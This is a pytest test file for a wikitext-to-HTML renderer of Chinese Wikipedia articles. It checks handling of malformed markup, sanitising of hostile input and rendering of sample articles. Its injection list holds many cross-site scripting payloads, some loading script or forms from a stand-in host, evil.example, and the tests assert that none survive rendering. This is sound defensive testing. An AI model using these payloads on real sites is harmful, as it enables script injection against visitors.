"""Broken, hostile and unfamiliar input (issue 6).

Three kinds of checks:

* every malformed form in ``tests/cases/malformed/`` finishes with a warning that names the
  right line (hand-written expectations below), keeps the text around the fault, shows no
  wikitext to the reader, and matches its reviewed golden file;
* a corpus of script-injection and structure-injection attempts never yields script, event
  handlers, dangerous URLs, CSS or new page structure;
* the three test articles in ``tests/articles/`` (tables, math, poems, galleries, definition
  lists, grouped refs …) render completely and build with MkDocs.

Goldens: ``ZHWIKI_UPDATE_GOLDENS=1 pytest tests/test_robustness.py`` rewrites
``tests/cases/malformed/*.expected``; review the diff before committing it.
"""

from __future__ import annotations

import os
import re
import sys
from html import unescape
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))

from sitebuild import build_site  # noqa: E402
from wikicheck import raw_markup_in, render_article, safety_problems, to_html, visible_text  # noqa: E402
from zhwiki.source import SourceError, decode  # noqa: E402

HERE = Path(__file__).parent
CASES = HERE / "cases" / "malformed"
ARTICLES = HERE / "articles"
UPDATE = os.environ.get("ZHWIKI_UPDATE_GOLDENS") == "1"


def _all_html(r, extra: bool = False) -> dict[str, str]:
    groups = [r.markdown, r.extra] if extra else [r.markdown]
    return {f"{v}/{path}": to_html(md) for g in groups for v, pages in g.items() for path, md in pages.items()}


# -- malformed input ------------------------------------------------------------------------
#: case → (warning fragment, line it must name or None for article-level, texts that must survive)
EXPECT: dict[str, tuple[str | None, int | None, tuple[str, ...]]] = {
    "unclosed-template.wiki": ("{{Cite web}} is never closed", 4, ("甲文", "没有闭合的模板", "乙文继续", "丙文")),
    "unclosed-link.wiki": ("unclosed [[", 4, ("参见", "朝鲜战争", "以及后文", "下一行文字", "链接没有闭合", "结尾")),
    "unclosed-tag.wiki": ("unpaired <b>", 4, ("粗体没有闭合", "也没有闭合", "下一行", "块也没有闭合", "结尾", "文字")),
    "unclosed-conversion.wiki": ("unclosed -{", 4, ("转换", "简体", "没有闭合", "下一行", "结尾")),
    "stray-closers.wiki": ("stray }}", 1, ("开头", "多余的括号", "和更多", "正文", "结尾")),
    "unbalanced-quotes.wiki": ("bold ''' is not closed", 1, ("粗体没有闭合", "下一行", "斜体也没有", "四个撇号", "五个", "结尾")),
    "unclosed-ref.wiki": ("<ref> is never closed", 1, ("开头", "这个引用永远不会闭合", "第一节正文", "结尾")),
    "ref-conflict.wiki": ("defined twice with different content", 4, ("开头", "甲内容", "再次")),
    "empty-refs.wiki": ("empty ref", 1, ("开头", "空引用", "和")),
    "empty.wiki": ("no text", None, ()),
    "no-sections.wiki": ("no level-2 sections", None, ("只有一段导言", "第二段")),
    "control-chars.wiki": ("control or private-use", 1, ("开头", "空字符", "响铃", "转义", "删除", "正文", "换页")),
    "unclosed-table.wiki": ("{| is never closed", 4, ("甲", "乙", "表格没有闭合之后的文字")),
    "stray-table-close.wiki": ("|} closes no table", 2, ("开头", "正文", "文字")),
    "deep-templates.wiki": ("never closed", 4, ("开头", "深处", "结尾")),
    "deep-links.wiki": (None, None, ("开头", "深处", "结尾")),
    "deep-tags.wiki": (None, None, ("开头", "深处", "结尾")),
    "deep-conversion.wiki": ("nested", 4, ("开头", "深处", "结尾")),
    "deep-quotes-lists.wiki": ("is not closed on its line", 7, ("开头", "深处", "再深", "缩进", "结尾")),
}


#: Deliberate exceptions to "no wikitext on a page" (none at present: an unclosed ``-{`` is left
#: out and reported since issue 12, though zh.wikipedia shows it).
ALLOWED_RAW: dict[str, set[str]] = {}


def _case_names() -> list[str]:
    return sorted(p.name for p in CASES.glob("*.wiki") if p.name != "invalid-utf8.wiki")


def test_every_case_has_expectations() -> None:
    assert set(_case_names()) == set(EXPECT), "add the new case to EXPECT"


def _golden_text(r) -> str:
    parts = ["# warnings"] + r.warnings()
    for path, md in r.markdown["zh-cn"].items():
        parts += [f"# zh-cn/{path}", md.rstrip("\n")]
    return "\n".join(parts) + "\n"


@pytest.mark.parametrize("name", _case_names())
def test_malformed_case(name: str) -> None:
    raw = decode((CASES / name).read_bytes(), name)
    r = render_article(raw)
    fragment, line, survivors = EXPECT[name]
    warnings = r.warnings()
    if fragment is not None:
        hits = [w for w in warnings if fragment in w]
        assert hits, f"no warning containing {fragment!r}: {warnings}"
        if line is not None:
            assert any(re.search(rf"\bline {line}\b", w) for w in hits), f"warning does not name line {line}: {hits}"
    html = _all_html(r)
    text = "".join(visible_text(h) for h in html.values())
    for s in survivors:
        assert s in text, f"text {s!r} was lost"
    allowed = ALLOWED_RAW.get(name, set())
    for page, h in html.items():
        raw_left = set(raw_markup_in(h)) - allowed
        assert not raw_left, f"{page} shows wikitext {raw_left}"
    for page, h in _all_html(r, extra=True).items():
        assert not safety_problems(h), f"{page}: {safety_problems(h)}"
    golden = CASES / (name.removesuffix(".wiki") + ".expected")
    actual = _golden_text(r)
    if UPDATE or not golden.exists():
        golden.write_text(actual, encoding="utf-8")
        if not UPDATE:
            pytest.fail(f"golden {golden.name} was missing and has been written; review it")
    assert actual == golden.read_text(encoding="utf-8"), f"{name} differs from {golden.name}"


def test_invalid_utf8_is_a_clear_error_with_the_byte_offset() -> None:
    data = (CASES / "invalid-utf8.wiki").read_bytes()
    offset = data.index(b"\xff")
    with pytest.raises(SourceError) as exc:
        decode(data, "invalid-utf8.wiki")
    msg = str(exc.value)
    assert f"offset {offset}" in msg and "0xff" in msg and "line 4" in msg


def test_invalid_utf8_build_fails_cleanly(tmp_path: Path) -> None:
    """A full build of undecodable input stops with the offset and without a Python traceback."""
    proc = build_site(tmp_path / "site", source=CASES / "invalid-utf8.wiki", variants="zh-cn")
    out = proc.stdout + proc.stderr
    assert proc.returncode != 0
    assert "offset 27" in out
    assert "Traceback" not in out


def test_one_megabyte_line_keeps_its_text() -> None:
    unit = "长行文字[[链接]]{{lang|en|word}}<b>粗</b>"
    body = (unit * (1_000_000 // len(unit.encode()) + 1))
    raw = f"开头。\n\n== 一 ==\n{body}\n\n== 二 ==\n结尾。\n"
    assert len(body.encode()) >= 1_000_000
    r = render_article(raw, variants=("zh-cn",))
    page = r.markdown["zh-cn"]["s01.md"]
    assert page.count("长行文字") == body.count("长行文字")
    assert page.count("<b>粗</b>") == body.count("<b>粗</b>")
    assert "结尾" in r.markdown["zh-cn"]["s02.md"]


def test_nul_and_control_characters_never_reach_a_page() -> None:
    raw = "甲\x00乙\x01丙\x08丁\x0b戊\x1f己\x7f庚\x85辛\ue000壬\n\n== 节 ==\n癸\x00\n"
    r = render_article(raw)
    for pages in r.markdown.values():
        for md in pages.values():
            assert not re.search("[\x00-\x08\x0b-\x1f\x7f\x80-\x9f]", md)
    text = "".join(r.markdown["zh-cn"].values())
    assert all(ch in text for ch in "甲乙丙丁戊己庚辛壬癸")
    assert any("line 1" in w for w in r.warnings()) and any("line 4" in w for w in r.warnings())


# -- hostile input ---------------------------------------------------------------------------
INJECTIONS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    '<span onclick="alert(1)" onmouseover=alert(2)>点我</span>',
    '<span style="background:url(javascript:alert(1))">背景</span>',
    '<div style="width: expression(alert(1))">表达式</div>',
    '<font color="red" style="x:expression(alert(1))">字体</font>',
    '<a href="javascript:alert(1)">链接</a>',
    "[javascript:alert(1) 伪协议]",
    "[data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== 数据]",
    "[vbscript:msgbox(1) 旧协议]",
    "[//evil.example/x 协议相对]",
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)><circle/></svg>",
    "<style>body{display:none}</style>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content=0>",
    "<form action=//evil.example><input name=x></form>",
    "{{lang|en|<script>alert(1)</script>}}",
    "[[File:X.png|缩略图|<script>alert(1)</script>说明]]",
    "[[朝鲜|<img src=x onerror=alert(1)>标签]]",
    "[[朝鲜\"><script>alert(1)</script>|标签]]",
    "正文<ref><script>alert(1)</script>引用</ref>\n\n<references/>",
    "<span title='\"><script>alert(1)</script>'>标题属性</span>",
    '<span lang="en" onfocus="alert(1)" title="x&quot; onclick=&quot;alert(1)">属性</span>',
    "{{cite web|url=javascript:alert(1)|title=引用标题}}",
    "{{cite web|url=https://example.org|title=<script>alert(1)</script>}}",
    "<nowiki><script>alert(1)</script></nowiki>",
    "<pre><script>alert(1)</script></pre>",
    '<syntaxhighlight lang="html"><script>alert(1)</script></syntaxhighlight>',
    '<syntaxhighlight lang="x\\" onclick=\\"alert(1)">代码</syntaxhighlight>',
    "<math>\\href{javascript:alert(1)}{x} </script><script>alert(1)</script></math>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(2)&#60;/script&#62;",
    "<poem><script>alert(1)</script>诗</poem>",
    "<gallery>\nFile:A.png|<script>alert(1)</script>\nFile:<script>.png\n</gallery>",
    '{| class="wikitable" onmouseover="alert(1)" style="x:expression(1)"\n|+ onclick="alert(1)" | 表题\n|-\n! style="background:url(javascript:x)" | 头\n| onclick="alert(1)" | 格<script>alert(1)</script>\n|}',
    "-{zh-hans:<script>alert(1)</script>;zh-hant:繁體;}-",
    "-{<script>alert(1)</script>}-",
    "<blockquote onclick=alert(1)><script>alert(1)</script>引文</blockquote>",
    "<div markdown=\"1\">**粗体**</div>",
    '<span class="x" id="main" data-x="1">类</span>',
    "<ruby>漢<rp>(</rp><rt onclick=alert(1)>han</rt><rp>)</rp></ruby>",
]


@pytest.mark.parametrize("snippet", INJECTIONS)
def test_injection_never_reaches_a_page(snippet: str) -> None:
    raw = f"导言文字。\n\n== 测试 ==\n前文\n{snippet}\n后文\n\n== 结尾 ==\n完。\n"
    r = render_article(raw)
    for page, html in _all_html(r, extra=True).items():
        assert not safety_problems(html), f"{page}: {safety_problems(html)}\n{html}"
        assert 'id="main"' not in html  # ids from the source could clash with the theme's
    for page, html in _all_html(r).items():
        assert not raw_markup_in(html), f"{page} shows wikitext {raw_markup_in(html)}"
    text = visible_text(_all_html(r)["zh-cn/s01.md"])
    assert "前文" in text and "后文" in text


#: Text that is Markdown, attr_list, footnote, table, abbr or Jinja syntax in the source:
#: (snippet, HTML it must not produce, words that must still be shown).
STRUCTURE = [
    ("前 # 不是标题", "<h1", ["不是标题"]),
    ("> 不是引文", "<blockquote", ["不是引文"]),
    ("1. 不是列表", "<ol", ["不是列表"]),
    ("- 不是列表", "<ul", ["不是列表"]),
    ("+ 不是列表", "<ul", ["不是列表"]),
    ("    四个空格不是代码", "<pre", ["四个空格不是代码"]),
    ("文字\n===", "<h1", ["文字", "==="]),
    ("文字\n---", "<h2", ["文字", "---"]),
    ("| 甲 | 乙 |\n|---|---|\n| 1 | 2 |", "<table", ["甲", "乙"]),
    ("不是脚注[^x]\n\n[^x]: 脚注", 'class="footnote', ["不是脚注", "[^x]"]),
    ('不是属性 {: onclick="alert(1)" #id .cls }', 'id="id"', ["不是属性", "{:"]),
    ("*[HTML]: 不是缩写\n\nHTML", "<abbr", ["不是缩写"]),
    ("```\n不是代码\n```", "<pre", ["不是代码", "```"]),
    ("~~~\n不是代码\n~~~", "<pre", ["不是代码", "~~~"]),
    ("^^不是插入^^ ~~不是删除~~", "<ins", ["不是插入", "^^", "~~不是删除~~"]),
    ("H^上标^ H~下标~", "<sup", ["H^上标^", "H~下标~"]),
    ("$不是公式$ $$也不是$$ \\(不是\\)", 'class="arithmatex"', ["$不是公式$", "$$也不是$$"]),
    # MediaWiki links the bare URL itself; the Markdown link and image syntax around it stay text.
    ("[不是链接](https://example.org) ![不是图片](https://example.org/x.png)", "<img", ["[不是链接](", "![不是图片]("]),
    ("{% if x %}金贾{% endif %} {# 注释 #}", "<p>金贾</p>", ["{% if x %}", "{# 注释 #}"]),
    ('!!! note "不是提示框"\n    内容', "admonition", ["不是提示框", "!!!"]),
    ('??? note "不是折叠"\n    内容', "<details", ["不是折叠", "???"]),
    ("<!-- 注释 --> 注释之后", "<!--", ["注释之后"]),
]


@pytest.mark.parametrize(("snippet", "forbidden", "shown"), STRUCTURE)
def test_markdown_lookalikes_cannot_change_structure(snippet: str, forbidden: str, shown: list[str]) -> None:
    raw = f"导言。\n\n== 测试 ==\n{snippet}\n\n== 结尾 ==\n完。\n"
    r = render_article(raw)
    html = to_html(r.markdown["zh-cn"]["s01.md"])
    assert forbidden not in html, html
    text = visible_text(html)
    for word in shown:
        assert word in text, f"{word!r} not shown: {text!r}"


def test_jinja_braces_stay_text() -> None:
    r = render_article("导言 {% raw %}{{ page.title }}{% endraw %} {{!}} 完。\n")
    html = to_html(r.markdown["zh-cn"]["index.md"])
    assert "{%" in visible_text(html) and "raw" in visible_text(html)


# -- test articles ---------------------------------------------------------------------------
ARTICLE_EXPECT = {
    "pythagoras.zh.wikitext": {
        "s02.md": ['rowspan="2"', 'colspan="3"', "<caption", "<th", "arithmatex"],
        "s01.md": ["<dl>", "<dt><b>勾股</b></dt>", "<dd>"],
        "s03.md": ['<code class="language-python">', "[[不是链接]]"],
        "index.md": ['<div class="arithmatex">', "\\[a^2 + b^2 = c^2\\]"],
        "notes.md": ["注1", "注2"],
    },
    "jingyesi.zh.wikitext": {
        "s01.md": ['class="poem"', "<br", "疑是地上霜", "<blockquote>", "宋蜀刻本"],
        "s03.md": ['class="wiki-gallery"', "李白像", "Frost_on_leaves.jpg"],
        "s02.md": ["<ul>", "霜", "<blockquote"],
    },
    "olympics-medals.zh.wikitext": {
        "s01.md": ['scope="col"', 'colspan="2"', "<caption", "48"],
        "s02.md": ['rowspan="3"', "<table>", "游泳", "跳水"],
    },
}


@pytest.mark.parametrize("name", sorted(ARTICLE_EXPECT))
def test_article_renders_every_feature(name: str) -> None:
    raw = (ARTICLES / name).read_text(encoding="utf-8")
    r = render_article(raw)
    html = _all_html(r)
    for page, needles in ARTICLE_EXPECT[name].items():
        h = html[f"zh-cn/{page}"].replace("<figcaption", "<caption")
        for n in needles:
            assert n in h or n in unescape(h), f"{page}: {n!r} missing"
    for page, h in _all_html(r, extra=True).items():
        assert not safety_problems(h), f"{page}: {safety_problems(h)}"
    for page, h in html.items():
        assert not raw_markup_in(h), f"{page} shows wikitext {raw_markup_in(h)}"
        # footnote markers inside table cells and captions became real footnote references
        assert "[^" not in visible_text(h), f"{page} shows a literal footnote marker"


def test_table_cells_keep_markdown_and_footnotes() -> None:
    raw = "导言<ref name=a>甲</ref>。\n\n{| class=\"wikitable\"\n|+ 表题<ref>乙</ref>\n|-\n! 头 !! colspan=2 | 宽头\n|-\n| rowspan=2 | 纵 || [[链接|标签]] '''粗''' || 引<ref name=a/>\n|-\n| 多行\n* 项一\n* 项二\n| 末\n|}\n"
    r = render_article(raw)
    html = to_html(r.markdown["zh-cn"]["index.md"])
    assert html.count('class="footnote-ref"') >= 3  # lead, caption and cell
    assert "<strong>粗</strong>" in html or "<b>粗</b>" in html
    assert ">标签</a>" in html
    assert '<td rowspan="2">' in html and '<th colspan="2">' in html
    assert "<li>项一</li>" in html
    assert "[^" not in visible_text(html)


def test_magic_words_disappear() -> None:
    r = render_article("__TOC__\n__NOTOC__导言__NOEDITSECTION__。\n\n== 节 ==\n正文__FORCETOC__\n")
    text = "".join(visible_text(to_html(md)) for md in r.markdown["zh-cn"].values())
    assert "__" not in text and "导言" in text and "正文" in text


#: Pages the edition adds around the article: they quote wikitext syntax on purpose, or (print)
#: carry their own print stylesheet and repeat the article pages checked here.
EDITION_PAGES = {"glossary.html", "about.html", "404.html", "print.html"}


@pytest.mark.slow
@pytest.mark.parametrize("name", sorted(ARTICLE_EXPECT))
def test_article_builds_with_mkdocs(name: str, tmp_path: Path) -> None:
    site = tmp_path / "site"
    proc = build_site(site, source=ARTICLES / name)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "Traceback" not in proc.stderr
    assert "pages:" in proc.stderr  # the build summary
    for variant in ("zh-cn", "zh-tw"):
        pages = sorted((site / variant).glob("*.html"))
        assert len(pages) >= 4
        for page in pages:
            if page.name in EDITION_PAGES:
                continue
            html = page.read_text(encoding="utf-8")
            m = re.search(r"<article[^>]*>(.*)</article>", html, re.S)
            if not m:
                continue
            body = m.group(1)
            assert not safety_problems(body), f"{page.name}: {safety_problems(body)}"
            assert not raw_markup_in(body), f"{page.name} shows wikitext {raw_markup_in(body)}"


@pytest.mark.parametrize(
    ("entity", "shown"),
    [
        ("&#0;", "&#0;"),  # invalid code points show as written, as on zh.wikipedia
        ("&#x1b;", "&#x1b;"),
        ("&#xD800;", "&#xD800;"),
        ("&#x110000;", "&#x110000;"),
        ("&#99999999999999999999;", "&#99999999999999999999;"),
        ("&#x85;", "&#x85;"),
        ("&lt;script&gt;", "<script>"),
        ("&#xe003;1&#xe004;", "\ue0031\ue004"),  # private-use code points are text, never IMD markers
        ("&nbsp;", "\xa0"),
    ],
)
def test_character_references(entity: str, shown: str) -> None:
    r = render_article(f"甲{entity}乙\n\n== 节 ==\n丙\n")
    html = to_html(r.markdown["zh-cn"]["index.md"])
    assert f"甲{shown}乙" in visible_text(html)
    assert not safety_problems(html)
